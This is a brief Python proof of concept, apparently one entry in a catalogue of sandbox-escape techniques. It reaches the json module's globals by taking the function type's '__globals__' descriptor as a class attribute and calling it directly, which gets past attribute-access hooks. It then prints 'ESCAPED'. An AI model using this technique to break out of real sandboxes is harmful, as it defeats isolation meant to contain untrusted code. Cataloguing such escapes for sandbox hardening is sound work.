# technique: a class of ours uses the descriptor of the function type as its own attribute
# goal: globals
# source: descriptors outlive attribute hooks
import json


class Thief:
    steal = type(json.dumps).__dict__['__globals__']


try:
    Thief().steal
except TypeError:
    g = Thief.__dict__['steal'].__get__(json.dumps, type(json.dumps))
    if g['__name__'] == 'json':
        print('ESCAPED globals of json')
